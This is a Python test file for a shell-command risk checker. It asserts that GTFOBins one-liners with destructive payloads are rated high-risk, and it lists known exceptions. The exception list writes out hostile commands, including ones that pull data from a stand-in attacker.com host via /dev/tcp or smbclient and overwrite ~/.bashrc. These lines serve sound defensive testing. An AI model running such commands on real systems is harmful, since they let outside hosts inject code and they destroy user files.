"""The risk check against GTFOBins: each one-line example of a program running a command or writing
a file, its payload made destructive (`/bin/sh` -> `poweroff`, the output file -> ~/.bashrc), is
high. The forms come from tests/workflow/data/gtfobins_forms.json and the table the check reads
from parsec/workflow/risk/data/gtfobins.json; scripts/gen_gtfobins.py writes both from the same
GTFOBins commit."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from parsec.workflow.risk import assess
from parsec.workflow.risk.rules.catalogue import catalogue

DATA = json.loads((Path(__file__).parent / "data" / "gtfobins_forms.json").read_text())

# Examples the check does not see as high, and why. They are still never low.
KNOWN_LIMITS = {
    "bash -c 'echo \"$(</dev/tcp/attacker.com/12345) >~/.bashrc'": "GTFOBins' example has an unbalanced quote",
    'exiftool "-description<=/path/to/input-file --filename ~/.bashrc': "GTFOBins' example has an unbalanced quote",
    'exiftool "-description=DATA --filename ~/.bashrc': "GTFOBins' example has an unbalanced quote",
    "gdb -nx -ex 'dump value ~/.bashrc \"DATA\"' -ex quit": "gdb's own commands are not read",
    "mosh --server=mosh-server localhost poweroff": "the example runs mosh, the entry is mosh-server",
    "pwsh -c '\"DATA\" | Out-File ~/.bashrc'": "PowerShell code is not read",
    r"smbclient '\\attacker.com\share' -c 'get /path/to/input-file ~/.bashrc'": "smbclient's commands are not read",
}


@pytest.fixture(scope="module")
def places(tmp_path_factory) -> tuple[str, str]:
    home = tmp_path_factory.mktemp("home")
    (home / ".bashrc").write_text("precious\n")
    (home / "project").mkdir()
    return str(home / "project"), str(home)


@pytest.mark.parametrize("form", [f["form"] for f in DATA["forms"]])
def test_gtfobins_form_is_high(form: str, places: tuple[str, str]) -> None:
    cwd, home = places
    verdict = assess(form, cwd=cwd, home=home)
    expected = "medium" if form in KNOWN_LIMITS else "high"
    assert verdict.level == expected, (form, verdict.reasons)


def test_the_forms_and_the_table_come_from_the_same_gtfobins_commit() -> None:
    table = catalogue()
    assert table["commit"] == DATA["commit"] and len(table["commit"]) == 40
    assert table["commit"] in (Path(__file__).resolve().parents[2] / "docs" / "workflow.md").read_text()
    assert len(DATA["forms"]) >= 150
    assert set(KNOWN_LIMITS) <= {f["form"] for f in DATA["forms"]}  # a limit that went away is removed


def test_the_table_covers_the_catalogue() -> None:
    table = catalogue()
    programs = table["programs"]
    assert len(programs) > 400
    runs = [n for n, e in programs.items() if {"runs", "code", "launches", "code_operand", "env"} & set(e)]
    assert len(runs) > 120
    assert programs["tar"]["runs"]["--checkpoint-action"] == [["exec=", ""]]
    assert table["aliases"]["nawk"] == "gawk"
